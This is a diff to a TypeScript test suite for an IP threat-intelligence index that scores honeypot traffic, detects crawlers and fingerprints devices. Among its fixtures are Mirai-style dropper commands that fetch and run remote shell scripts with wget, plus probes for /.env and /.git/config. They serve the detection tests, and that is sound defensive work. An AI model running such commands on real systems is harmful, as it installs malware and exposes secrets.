@@ -174,7 +174,10 @@ describe(IntelIndex.name, () => {
     });
     assert.deepEqual(index.intelligence(ip('73.12.34.56')).behavior, ['TORRENTING']);
     assert.deepEqual(index.intelligence(ip('2001:db8::7')).behavior, ['TORRENTING']);
-    assert.equal(index.intelligence(ip('73.12.34.56')).risk_score, 12);
+    // 10 × v(1) = 10 × 0.6177 (no network type given: no prior)
+    assert.equal(index.intelligence(ip('73.12.34.56')).risk_score, 6);
+    // 5 + 0.95 × 6.18 = 10.87 on a home network
+    assert.equal(index.intelligence(ip('73.12.34.56'), undefined, 'RESIDENTIAL').risk_score, 11);
   });
 
   it('should mark the source of an ADB dropper session a compromised botnet member with a high score', () => {
@@ -250,11 +253,14 @@ describe(IntelIndex.name, () => {
     const chrome = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36';
     for (let i = 0; i < CRAWL_THRESHOLD - 1; i++) feed('honeypot_http', http('198.51.100.20', 'GET', `/p/${i}?q=1`, chrome, T0 + i * 1000));
     feed('honeypot_http', http('198.51.100.20', 'GET', '/p/0?q=2', chrome, T0 + 30_000)); // same path, other query
-    assert.deepEqual(index.intelligence(ip('198.51.100.20')).behavior, []);
+    const browsing = index.intelligence(ip('198.51.100.20'));
+    assert.deepEqual(browsing.behavior, []);
+    assert.deepEqual(browsing.devices, [{ os: 'WINDOWS', version: '10', last_seen: S0 + 30 }]);
     feed('honeypot_http', http('198.51.100.20', 'GET', '/p/last', chrome, T0 + 40_000));
     const intel = index.intelligence(ip('198.51.100.20'));
     assert.deepEqual(intel.behavior, ['ACTIVE_CRAWLER']);
-    assert.deepEqual(intel.devices, [{ os: 'WINDOWS', version: '10', last_seen: S0 + 40 }]);
+    // A crawler's User-Agent says what it wants to be taken for, so it names no device any more.
+    assert.deepEqual(intel.devices, []);
   });
 
   it('should mark exploit traffic malicious and Mirai-style HTTP droppers compromised', () => {
@@ -295,7 +301,7 @@ describe(IntelIndex.name, () => {
     index.setLists([list('TOR_NODE', 'TOR', ['185.220.101.1/32'], 'tor-bulk-exit-list')]);
     feed('honeypot_http', http('185.220.101.1', 'GET', '/.env', 'curl/8.5.0', T0 - 3_600_000));
     feed('honeypot_http', http('185.220.101.1', 'GET', '/.git/config', 'curl/8.5.0', T0));
-    const { intelligence, evidence } = index.explain(ip('185.220.101.1'));
+    const { intelligence, evidence } = index.explain(ip('185.220.101.1'), undefined, 'DATACENTER');
     const listSource = {
       source: 'list',
       kind: 'TOR_NODE',
@@ -314,11 +320,125 @@ describe(IntelIndex.name, () => {
       { behavior: 'MALICIOUS_TRAFFIC', sources: [httpSource] },
       { behavior: 'PROGRAMMATIC_TRAFFIC', sources: [httpSource] },
     ]);
-    assert.deepEqual(evidence.risk.category, { value: 60, from: 'TOR_NODE' });
-    assert.deepEqual(evidence.risk.behavior, { value: 80, from: 'MALICIOUS_TRAFFIC' });
-    assert.equal(evidence.risk.score, intelligence.risk_score);
-    // 80 + 0.25 × 60 + 5·log10(1 + 4 observations)
-    assert.equal(intelligence.risk_score, 98);
+    // evidence = 80 × v(2 requests) × 1.15 (two behaviours) × 0.6 (Tor is shared) = 80 × 0.6574 × 1.15 × 0.6 = 36.29;
+    // base = 60 + 0.25 × 36.29 = 69.07; score = 15 + 0.85 × 69.07 = 73.71
+    assert.deepEqual(evidence.risk, {
+      score: 74,
+      prior: { value: 15, from: 'DATACENTER' },
+      category: { value: 60, from: 'TOR_NODE' },
+      behavior: { value: 80, from: 'MALICIOUS_TRAFFIC' },
+      volume: { value: 0.66, observations: 2 },
+      diversity: { value: 1.15, behaviors: 2 },
+      shared: { value: 0.6, from: 'TOR_NODE' },
+      evidence: 36.29,
+      benign_cap: false,
+    });
+    assert.equal(intelligence.risk_score, 74);
+  });
+});
+
+describe(`${IntelIndex.name} risk inputs`, () => {
+  const chrome = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36';
+
+  it("should give an address nothing is known about its network's prior, as one shared answer per score", () => {
+    const { index } = setup();
+    const dc = index.intelligence(ip('203.0.113.80'), undefined, 'DATACENTER');
+    assert.deepEqual(dc, { risk_score: 15, behavior: [], categories: [], devices: [], providers: [] });
+    assert.equal(index.intelligence(ip('203.0.113.81'), undefined, 'DATACENTER'), dc);
+    assert.equal(index.intelligence(ip('73.12.34.99'), undefined, 'RESIDENTIAL').risk_score, 5);
+    assert.equal(index.intelligence(ip('73.12.34.99')), NO_INTELLIGENCE, 'no network type, no prior');
+    assert.deepEqual(index.explain(ip('203.0.113.80'), undefined, 'DATACENTER').evidence.risk.prior, { value: 15, from: 'DATACENTER' });
+  });
+
+  it('should count a request once however many behaviours it shows, and each behaviour its own requests', () => {
+    const { index, feed } = setup();
+    // 3 requests that are exploit + programmatic + (one) dropper, and 4 plain page views: 7 requests, 10 behaviour hits.
+    feed('honeypot_http', http('198.51.100.30', 'GET', '/.env', 'curl/8.5.0', T0 - 5000));
+    feed('honeypot_http', http('198.51.100.30', 'GET', '/.git/config', 'curl/8.5.0', T0 - 4000));
+    feed('honeypot_http', http('198.51.100.30', 'GET', '/shell?cd+/tmp;wget+198.51.100.7/jaws;sh+/tmp/jaws', 'Hello, World', T0 - 3000));
+    for (let i = 0; i < 4; i++) feed('honeypot_http', http('198.51.100.30', 'GET', `/page/${i}`, chrome, T0 - 2000 + i));
+    const { evidence } = index.explain(ip('198.51.100.30'));
+    assert.equal(evidence.risk.volume.observations, 7);
+    const counts = Object.fromEntries(evidence.behavior.map((b) => [b.behavior, b.sources.map((s) => ('count' in s ? s.count : 0))]));
+    assert.deepEqual(counts, { COMPROMISED_DEVICE: [1], MALICIOUS_TRAFFIC: [3], PROGRAMMATIC_TRAFFIC: [3] });
+    // An ADB session: each command is one request (MALICIOUS_TRAFFIC each, the dropper COMPROMISED_DEVICE too).
+    feed('honeypot_adb', adb('198.51.100.30', 'shell:getprop ro.product.model'));
+    feed('honeypot_adb', adb('198.51.100.30', 'shell:cd /data/local/tmp; busybox wget http://203.0.113.9/w.sh; sh w.sh'));
+    assert.equal(index.explain(ip('198.51.100.30')).evidence.risk.volume.observations, 9);
+  });
+
+  it('should name no device from the User-Agent of a request or an address that behaves like a scanner', () => {
+    const { index, feed } = setup();
+    feed('honeypot_http', http('198.51.100.40', 'GET', '/.env', chrome));
+    assert.deepEqual(index.intelligence(ip('198.51.100.40')).devices, []);
+    // Browsing first, then scanning with a library: the device seen while browsing goes too.
+    feed('honeypot_http', http('198.51.100.41', 'GET', '/', chrome, T0 - 60_000));
+    assert.deepEqual(
+      index.intelligence(ip('198.51.100.41')).devices.map((d) => d.os),
+      ['WINDOWS'],
+    );
+    feed('honeypot_http', http('198.51.100.41', 'GET', '/', 'python-requests/2.32.3'));
+    assert.deepEqual(index.intelligence(ip('198.51.100.41')).devices, []);
+    // A TCP stack identifies the device whatever the address does.
+    feed('ja4t', {
+      ip: '198.51.100.41',
+      ja4t: '64240_2-1-3-1-1-4_1460_8',
+      provider: 'X',
+      type: 'DATACENTER_PROXY',
+      timestamp: S0,
+      country_code: 'US',
+      asn: 1,
+    });
+    assert.deepEqual(
+      index.intelligence(ip('198.51.100.41')).devices.map((d) => d.os),
+      ['WINDOWS'],
+    );
+  });
+
+  it('should read a device from a ClientHello only when its JA4 is a TLS stack of one OS', () => {
+    const { index, feed } = setup();
+    const hello = (source_ip: string, ja4: string) => ({
+      timestamp: T0,
+      tunnel_id: 1,
+      domain: 'vpn.example.com',
+      port: 443,
+      protocol: 'https',
+      meta: { proxy_ip: '', server: '', pool_id: 1, provider: '' },
+      details: { ja4 },
+      source_ip,
+    });
+    feed(
+      'honeypot_https',
+      hello('198.51.100.60', 't12d210700_76e208dd3e22_16bbda4055b2'),
+      hello('198.51.100.61', 't13d1516h2_8daaf6152771_02713d6af862'),
+    );
+    assert.deepEqual(index.intelligence(ip('198.51.100.60')).devices, [{ os: 'WINDOWS', version: '', last_seen: S0 }]);
+    assert.equal(index.intelligence(ip('198.51.100.61')), NO_INTELLIGENCE, 'a browser ClientHello says nothing, and makes no entry');
+  });
+
+  it('should score a verified crawler fetching what every crawler fetches as no risk, and mark a CGNAT address shared', () => {
+    const { index, feed } = setup();
+    index.setLists([list('SEARCH_ENGINE', 'GOOGLEBOT', ['66.249.64.0/19'], 'google-prefixes')]);
+    const googlebot = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';
+    const paths = ['/robots.txt', '/sitemap.xml', '/sitemap_index.xml', '/favicon.ico', '/', '/.well-known/security.txt', '/ads.txt'];
+    for (const [i, p] of [...paths, ...Array.from({ length: 20 }, (_, k) => `/products/${k}`)].entries()) {
+      feed('honeypot_http', http('66.249.66.1', 'GET', p, googlebot, T0 - 100_000 + i * 1000));
+    }
+    const crawler = index.explain(ip('66.249.66.1'), undefined, 'DATACENTER');
+    assert.deepEqual(
+      [crawler.intelligence.risk_score, crawler.intelligence.behavior, crawler.intelligence.devices],
+      [0, ['ACTIVE_CRAWLER'], []],
+    );
+    assert.deepEqual(crawler.evidence.risk.prior, { value: 0, from: null });
+    feed('honeypot_http', http('100.72.1.9', 'GET', '/.env', 'curl/8.5.0'));
+    const cgnat = index.explain(ip('100.72.1.9'), undefined, 'UNKNOWN').evidence.risk;
+    assert.deepEqual([cgnat.shared, cgnat.score], [{ value: 0.6, from: 'CGNAT' }, 34]);
+    feed('honeypot_http', http('100.128.1.9', 'GET', '/.env', 'curl/8.5.0'));
+    assert.deepEqual(
+      index.explain(ip('100.128.1.9'), undefined, 'UNKNOWN').evidence.risk.shared,
+      { value: 1, from: null },
+      'outside 100.64.0.0/10',
+    );
   });
 });
 
